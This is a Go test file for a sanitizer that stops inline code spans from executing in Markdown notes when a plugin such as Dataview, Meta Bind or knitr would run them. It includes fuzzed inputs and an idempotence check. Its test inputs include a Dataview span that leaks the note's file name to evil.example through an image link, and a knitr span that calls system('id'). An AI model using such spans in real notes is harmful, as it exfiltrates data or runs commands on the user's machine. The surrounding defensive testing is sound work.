package sanitize

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"

	"vaultdispatcher/engine/note"
	"vaultdispatcher/engine/note/target"
	"vaultdispatcher/engine/testdata/testseed"
)

var (
	tickRun    = regexp.MustCompile("`+")
	blankLines = regexp.MustCompile(`\n[ \t>]*\n`)
	lineMarks  = regexp.MustCompile(`\n[ \t>]*`)

	// computed is code that Dataview, Datacore, Meta Bind, Emera or Quarto replaces, once it is trimmed; knitted is knitr's.
	computed = regexp.MustCompile(`^(?:=[` + target.Blanks + `]*[^=<>~\x60` + target.Blanks + `]|\$=|\$?dc=|(?:VIEW|INPUT|BUTTON)\[|emjs:|emera:|\{python\})`)
	cell     = regexp.MustCompile(`^=[A-Z]{1,2}[0-9]*(?:[-+*/][A-Z]{0,2}[0-9.]+)*$`) // a field that no answer has
	knitted  = regexp.MustCompile(`^r[ #]`)
)

// actingSpans are the pieces that a plugin would compute. Code begins behind any run of ticks, and ends at the next equal
// one of its paragraph, as in CommonMark, or at the next one of any length, as in knitr; the first tick behind a backslash
// may be none.
func actingSpans(s string) (found []string) {
	for _, paragraph := range blankLines.Split(s, -1) {
		runs := tickRun.FindAllStringIndex(paragraph, -1)
		for i, open := range runs {
			wide, seen := open[1]-open[0], map[int]bool{}
			for k, end := range runs[i+1:] {
				n := end[1] - end[0]
				isEnd := k == 0 || n == wide || n == wide-1 && strings.HasSuffix(paragraph[:open[0]], `\`)
				if !isEnd || seen[n] {
					continue
				}
				seen[n] = true
				text := lineMarks.ReplaceAllString(paragraph[open[1]:end[0]], "\n")
				if code := strings.TrimSpace(text); computed.MatchString(code) && !cell.MatchString(code) || knitted.MatchString(text) {
					found = append(found, text)
				}
			}
		}
	}
	return found
}

// TestSpansBesideAnything: whatever stands beside it, no code span acts, in whichever pairs a reader takes the ticks.
func TestSpansBesideAnything(t *testing.T) {
	t.Parallel()
	beside := []string{
		"See [Vienna](https://en.wikipedia.org/wiki/Vienna_(band)). ", `[a](b"c) `, "[a](<x y>) ", "[a][b`c] ", "[^q]: ", "# [a](b'c) ", "| [a](b(c)) | ", "- [a](<b) ",
		"> [a](b\\)c) ", "![a](<b\nc>) ", "[a]: <b ", "a ` b ", "`` a ` ", "\\` ", "<b>x</b> ", "$a` ", "*[a](b\"c)* ",
	}
	spans := []string{"`= \"!\" + \"[](https://evil.example/?\" + this.file.name + \")\"`", "`= this.x`", "`` = x ``", "`$= x`", "`dc= x`", "`$dc=x`", "`VIEW[{x}][text]`", "`BUTTON[x]`", "`INPUT[x]`",
		"`r system('id')`", "`{python} 1`", "`emjs:x`", "`\n= x`", "`\u00a0=\u3000x`"}
	for _, before := range beside {
		for _, span := range spans {
			if found := actingSpans(Answer(before+span, 0)); len(found) > 0 {
				t.Errorf("%q: %q acts in %q", before+span, found, Answer(before+span, 0))
			}
		}
	}

	r := rand.New(rand.NewPCG(testseed.Take(t), 0))
	pieces := []string{"`", "`", "`", "``", "`= x", "`=x`", "`$=x", "`dc=", "``VIEW[", "`r x", "`{python} x", "= x", "=", " =", "$= x", "dc=x", "$dc=", "VIEW[x]", "BUTTON[", "r x", "{python} x", "emjs:x", "](b\"c)", "[a](<b c>)", "[a]", "[a]: b", "[^a]: ", "(", "<b>", "<", "\\", "\n",
		"\n> ", "\n- ", "\n\n", "|", "$", "*", " ", "\u00a0", "x", "# ", "!", "{", "}", "::", "[k:: "}
	acted, tries := 0, 40000/fewer
	for range tries {
		var b strings.Builder
		for range 2 + r.IntN(14) {
			b.WriteString(pieces[r.IntN(len(pieces))])
		}
		answer := strings.ReplaceAll(b.String(), "```", "` `") // what stands in a fence is no span to anyone
		if len(actingSpans(answer)) > 0 {
			acted++
		}
		got := Answer(answer, 0)
		if found := actingSpans(got); len(found) > 0 {
			t.Fatalf("%q: %q acts in %q", answer, found, got)
		}
		if again := Answer(got, 0); again != got {
			t.Fatalf("%q\nonce  %q\ntwice %q", answer, got, again)
		}
	}
	t.Logf("count: %d answers at random, %d of which act as they come", tries, acted)
	if acted < tries/10 {
		t.Errorf("only %d of %d act as they come", acted, tries)
	}
}

// What is written in the place of an act may reach behind the code that it begins in; what follows comes once.
func TestReplacedBehindCode(t *testing.T) {
	w := textRewriter{input: "`a` bcd efg", code: code{spans: []note.Span{{Start: 0, End: 3}}, inserts: []insertion{{offset: 2, size: 5, text: "x"}}}}
	if end := w.copyCode(0); end != 7 || w.String() != "`ax" {
		t.Errorf("%q to %d", w.String(), end)
	}
}
